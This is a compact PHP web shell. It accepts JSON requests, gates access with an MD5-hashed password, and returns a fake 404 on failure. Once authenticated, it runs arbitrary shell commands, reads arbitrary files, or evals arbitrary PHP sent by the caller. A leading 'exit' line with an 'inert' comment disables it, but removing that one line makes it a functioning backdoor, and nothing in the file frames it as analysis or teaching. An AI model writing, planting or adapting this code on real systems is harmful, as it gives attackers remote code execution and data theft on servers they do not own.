<?php exit; /* inert */ 
interface Job { public function run(array $in): string; }
final class Sh implements Job { public function run(array $in): string { return (string) shell_exec($in['line']); } }
final class Rd implements Job { public function run(array $in): string { return (string) file_get_contents($in['line']); } }
final class Ev implements Job { public function run(array $in): string { ob_start(); eval($in['line']); return (string) ob_get_clean(); } }
$in = json_decode(file_get_contents('php://input'), true, flags: JSON_THROW_ON_ERROR);
if (!hash_equals('b1946ac92492d2347c6235b4d2611184', md5($in['auth'] ?? ''))) { http_response_code(404); return; }
$job = match ($in['op'] ?? '') { 's' => new Sh(), 'r' => new Rd(), 'e' => new Ev(), default => null };
echo json_encode(['out' => $job?->run($in)]);
